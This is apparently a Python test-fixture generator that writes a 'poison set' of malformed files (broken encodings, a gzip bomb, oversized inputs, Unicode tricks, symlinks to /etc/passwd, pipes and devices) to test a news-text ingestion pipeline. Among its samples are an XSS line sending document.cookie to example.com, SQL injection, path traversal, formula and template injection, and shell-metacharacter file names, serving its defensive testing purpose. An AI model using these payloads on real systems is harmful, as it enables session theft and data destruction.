"""The poison set: files that no newspaper would print, made anew for every run; `python hostile.py FOLDER` writes them.

Each has a name, its bytes, and the reason for which it must be rejected, None where it must be read.
"""

from __future__ import annotations

import gzip
import os
import random
import socket
import sys
from collections.abc import Iterator
from pathlib import Path

STORY = (
    " date 2020-09-23 Lecce turn down Roma bid for Verrell\n\n"
    "Roma have had a £5m bid for the Lecce striker Tomas Verrell rejected. “He stays here,” said coach Dario Venn.\n"
)
LINE = "Roma want to sign the Lecce striker Tomas Verrell for £5m on Monday, his agent said."
MILLION = 1_000_000
Hostile = tuple[str, bytes, str | None]


def encodings() -> Iterator[Hostile]:
    """Every way in which bytes are not the text they seem to be."""
    yield "utf-8.txt", STORY.encode(), None
    yield "utf-8-bom.txt", STORY.encode("utf-8-sig"), None
    yield "two-boms.txt", b"\xef\xbb\xbf" + STORY.encode("utf-8-sig"), None
    yield "bom-within.txt", STORY.replace("Roma", "\ufeffRoma").encode(), None
    yield "only-a-bom.txt", b"\xef\xbb\xbf", "empty"
    yield "utf-16-le.txt", b"\xff\xfe" + STORY.encode("utf-16-le"), None
    yield "utf-16-be.txt", b"\xfe\xff" + STORY.encode("utf-16-be"), None
    yield "utf-16-unmarked.txt", STORY.encode("utf-16-le"), "binary"
    yield "utf-16-odd.txt", b"\xff\xfe" + STORY.encode("utf-16-le") + b"x", "undecodable"
    yield "utf-16-half-a-pair.txt", b"\xff\xfe" + "Roma ".encode("utf-16-le") + b"\x3d\xd8", "undecodable"
    yield "utf-16-only-its-mark.txt", b"\xff\xfe", "empty"
    yield "utf-32.txt", STORY.encode("utf-32"), "binary"
    yield "utf-7.txt", STORY.encode("utf-7"), None
    yield "latin-1.txt", STORY.replace("“", "'").replace("”", "'").encode("latin-1"), None
    yield "windows-1252.txt", STORY.encode("cp1252"), None
    yield "mojibake.txt", STORY.encode().decode("latin-1").encode(), None
    yield "mojibake-twice.txt", STORY.encode().decode("latin-1").encode().decode("latin-1").encode(), None
    yield "surrogates.txt", STORY.encode() + b"\xed\xa0\xbd\xed\xb8\x80", "undecodable"
    yield "overlong.txt", STORY.encode() + b"\xc0\xaf\x81", "undecodable"
    yield "torn-utf-8.txt", STORY.encode()[:-1] + "£".encode()[:1], "undecodable"
    yield "last-code-points.txt", (STORY + "\U0010ffff\ufffe\uffff").encode(), None
    yield "private-use.txt", (STORY + "".join(map(chr, range(0xE000, 0xE200)))).encode(), None
    yield "entities.txt", b"&pound;5m &#163;6m &#xD800; &#x110000; &#99999999999; &nosuch; &amp;amp; Roma", None
    yield "ebcdic.txt", STORY.encode("cp500", "replace"), "undecodable"


def bytes_that_are_no_text() -> Iterator[Hostile]:
    """Files that are something else."""
    chance = random.Random(1)
    yield "empty.txt", b"", "empty"
    yield "white.txt", " \t\r\n\u3000\u00a0\u2028".encode(), "empty"
    yield "zero-width-only.txt", "\u200b\u200b".encode(), None
    yield "one-nul.txt", STORY.encode() + b"\0", "binary"
    yield "nuls.txt", bytes(4096), "binary"
    yield "noise.txt", chance.randbytes(20_000), "binary"
    yield "noise-without-nul.txt", chance.randbytes(20_000).replace(b"\0", b"\1"), "undecodable"
    yield "controls.txt", bytes(range(1, 32)) * 50, "binary"
    yield "escapes.txt", (STORY + "\x1b[31mred\x1b[0m\x1b]0;title\x07").encode(), None
    yield "backspaces.txt", b"Roma\x08\x08\x08\x08Lecce pay \xc2\xa35m", "binary"
    yield "picture.txt", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + chance.randbytes(200), "binary"
    yield "archive.txt", gzip.compress(STORY.encode()), "binary"
    yield "text.txt.gz", STORY.encode(), "undecodable"
    yield "bomb.txt.gz", gzip.compress(bytes(50 * MILLION)), "too_long"
    yield "gzip-in-gzip.txt.gz", gzip.compress(gzip.compress(STORY.encode())), "binary"
    yield "members.txt.gz", gzip.compress(STORY.encode()) * 3, None
    yield "trailing.txt.gz", gzip.compress(STORY.encode()) + b"garbage", "undecodable"


def lengths() -> Iterator[Hostile]:
    """Too much of something that a rule may count, join, or look back over."""
    yield "one-character.txt", b"x", None
    yield "one-over-a-million.txt", ("x" * (MILLION + 1)).encode(), "too_long"
    yield "four-bytes-each.txt", ("😀" * (MILLION + 1)).encode(), "too_long"
    yield "one-word.txt", b"x" * 900_000, None
    yield "one-line.txt", ("Nachwuchsleistungszentrum " * 34_615)[:900_000].encode(), None
    yield "quotation-marks.txt", ('"' * 100_000).encode(), None
    yield "curly-marks.txt", ("“ ” ‘ ’ " * 3_000).encode(), None
    yield "opening-marks.txt", ("“Roma " * 3_000).encode(), None
    yield "apostrophes.txt", ("'Roma's' " * 2_000).encode(), None
    yield "brackets.txt", ("(" * 5_000 + "Roma" + ")" * 5_000).encode(), None
    yield "mixed-brackets.txt", ("([{<" * 1_000 + "£5m" + ">}])" * 1_000).encode(), None
    yield "digits.txt", b"\xc2\xa3" + b"9" * 100_000 + b"m for Roma", None
    yield "commas-in-digits.txt", ("£1" + ",000" * 20_000).encode(), None
    yield "points-in-digits.txt", ("£1" + ".0" * 20_000 + "m").encode(), None
    yield "amounts.txt", ("£5m " * 3_000).encode(), None
    yield "ranges.txt", ("£5m-" * 10_000).encode(), None
    yield "dates.txt", ("on Monday, 21 September 2020, " * 1_000).encode(), None
    yield "slashes.txt", ("1/2/" * 10_000).encode(), None
    yield "hyphens.txt", ("Roma-" * 3_000).encode(), None
    yield "full-stops.txt", ("." * 100_000).encode(), None
    yield "one-word-sentences.txt", ("Roma. " * 2_000).encode(), None
    yield "newlines.txt", ("a" + "\n" * 500_000 + "b").encode(), None
    yield "spaces.txt", ("Roma" + " " * 500_000 + "Lecce").encode(), None
    yield "carriage-returns.txt", (LINE + "\r").encode() * 200, None
    yield "long-name.txt", ("R" + "o" * 9_999 + " signed " + "V" + "e" * 9_999).encode(), None
    yield "name-of-many-names.txt", ("Tomas " + "Verrell " * 5_000 + "joined Roma for £5m.").encode(), None
    yield "crowd.txt", "".join(_moves(200)).encode(), None
    yield "said.txt", ("said Verrell " * 2_000).encode(), None
    yield "headlines.txt", ("Roma sign Verrell\n\n" * 1_000).encode(), None
    yield "long-address.txt", ("https://example.com/" + "a/" * 3_000 + "?q=" + "b" * 20_000).encode(), None
    yield "entities-without-end.txt", ("&" * 5_000 + "amp;" * 5_000).encode(), None
    yield "mojibake-long.txt", ("â€œRoma" * 5_000).encode(), None


def _moves(number: int) -> Iterator[str]:
    """Sentences each about somebody else, as no article has them."""
    chance = random.Random(2)
    syllables = "ba ce di fo gu ka le mi no pu ra se ti vo zu".split()
    clubs = "Roma Lecce Chelsea Arsenal Barnsley Celtic Ajax Porto Lyon Genoa".split()
    for n in range(number):
        first, last = ("".join(chance.choices(syllables, k=k)).title() for k in (2, 4))
        yield f"{chance.choice(clubs)} signed striker {first} {last} from {last} Town for £{n}m, {last} said on Monday.\n"


def scripts() -> Iterator[Hostile]:
    """Characters that turn round, join, hide, or are code elsewhere."""
    yield "right-to-left.txt", (STORY + "\u202eamoR ot llerreV\u202c \u200fروما\u200f").encode(), None
    yield "marks-without-end.txt", ("\u202e\u200f\u2066" * 5_000 + "Roma").encode(), None
    yield "arabic.txt", ("روما تريد التعاقد مع اللاعب مقابل ٥ ملايين يورو. " * 20).encode(), None
    yield "chinese.txt", ("罗马队出价500万英镑。" * 100).encode(), None
    yield "emoji.txt", (STORY + "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇮🇹 £5m 💰" * 100).encode(), None
    yield "zalgo.txt", ("R" + "\u0301" * 2_000 + "oma " + "L̷̢e̶c̴c̵e " * 500).encode(), None
    yield "zero-width.txt", "\u200b".join("Roma bid £5m for Tomas Verrell").encode(), None
    yield "soft-hyphens.txt", "\u00ad".join("Roma bid £5m for Tomas Verrell").encode(), None
    yield "wide-letters.txt", "Ｒｏｍａ ｂｉｄ £５ｍ for Verrell".encode(), None
    yield "mathematical.txt", "𝐑𝐨𝐦𝐚 bid £𝟓m for 𝒱errell".encode(), None
    yield "other-digits.txt", "Roma bid £٥m, €５m, $²m and £½m on ٢٣/٠٩/٢٠٢٠".encode(), None
    yield "dotless.txt", ("İIıi Şßǅŉΐ " * 500).encode(), None
    yield "page.txt", b"<html><head><title>Roma</title></head><body onload=alert(1)>" + STORY.encode() * 3, None
    yield "script.txt", b"<script>fetch('https://example.com/'+document.cookie)</script>" + STORY.encode(), None
    yield "open-tags.txt", ("<div class='a'>" * 5_000 + "Roma").encode(), None
    yield "formulas.txt", '=HYPERLINK("http://example.com","Roma")\n+1+1\n-2\n@SUM(A1)\n\t=1\n£5m\n'.encode(), None
    yield "markup.txt", b"[Roma](javascript:alert(1)) [bold red]Verrell[/] {{7*7}} ${7*7} %s %n {0}", None
    yield "query.txt", b"Roma'); DROP TABLE fees;-- signed Verrell for \xc2\xa35m", None
    yield "code.txt", b"__import__('os').system('true') # -*- coding: rot13 -*- Roma", None
    yield "path.txt", b"../../../etc/passwd C:\\Windows\\System32 \\\\host\\share Roma", None


def names() -> Iterator[Hostile]:
    """Names that a shell, a table or a terminal could take for something else."""
    yield "a\nb.txt", STORY.encode(), None
    yield "\"quoted\" 'name'.txt", STORY.encode(), None
    yield "-rf *.txt", STORY.encode(), None
    yield "$(true);`true`|&.txt", STORY.encode(), None
    yield "\x1b[31mred.txt", STORY.encode(), None
    yield "\u202egnp.txt", STORY.encode(), None
    yield "=1+1.txt", STORY.encode(), None
    yield "<b>bold<b>.txt", STORY.encode(), None
    yield "😀.txt", STORY.encode(), None
    yield "%2e%2e%2f.txt", STORY.encode(), None
    yield ".txt.txt", STORY.encode(), "left out"
    yield " .txt", STORY.encode(), None
    yield "UPPER.TXT", STORY.encode(), None
    yield "x" * 251 + ".txt", STORY.encode(), None
    yield "a.txt.txt", STORY.encode(), None
    yield os.fsdecode(b"caf\xe9.txt"), STORY.encode(), "bad_name"
    yield os.fsdecode(b"\xff\xfe.txt"), STORY.encode(), "bad_name"
    yield "fee=5/player=x.txt", STORY.encode(), None
    yield "/".join(["deep"] * 200) + "/a.txt", STORY.encode(), None


def files() -> dict[str, tuple[bytes, str | None]]:
    """All that are bytes under a name."""
    groups = (encodings(), bytes_that_are_no_text(), lengths(), scripts(), names())
    return {name: (data, reason) for group in groups for name, data, reason in group}


def oddities(folder: Path) -> dict[str, str]:
    """Make what is no file, and tell for which reason each must be rejected."""
    os.mkfifo(folder / "pipe.txt")
    with socket.socket(socket.AF_UNIX) as unix:
        unix.bind(os.path.relpath(folder / "socket.txt"))
    links = {
        "circle-1.txt": ("circle-2.txt", "link_loop"),
        "circle-2.txt": ("circle-1.txt", "link_loop"),
        "itself.txt": ("itself.txt", "link_loop"),
        "round": (".", "link_loop"),
        "broken.txt": ("nothing", "link_broken"),
        "zeros.txt": ("/dev/zero", "link_outside"),
        "password.txt": ("/etc/passwd", "link_outside"),
        "root": ("/", "link_outside"),
        "to-pipe.txt": ("pipe.txt", "not_a_file"),
    }
    for name, (target, _) in links.items():
        (folder / name).symlink_to(target)
    found = {"pipe.txt": "not_a_file", "socket.txt": "not_a_file"} | {name: why for name, (_, why) in links.items()}
    try:
        os.mknod(folder / "device.txt", 0o20666, os.makedev(1, 5))
    except PermissionError:
        return found  # only root may make a device
    return found | {"device.txt": "not_a_file"}


def fill(folder: Path) -> dict[str, str | None]:
    """Write the poison set below a folder; by source path, why each is rejected, None for those to be read."""
    for name, (data, _) in files().items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    reasons = {name: reason for name, (_, reason) in files().items()}
    shown = {os.fsencode(n).decode(errors="backslashreplace"): why for n, why in reasons.items() if why != "left out"}
    return shown | oddities(folder)


if __name__ == "__main__":
    Path(sys.argv[1]).mkdir(parents=True)
    fill(Path(sys.argv[1]))
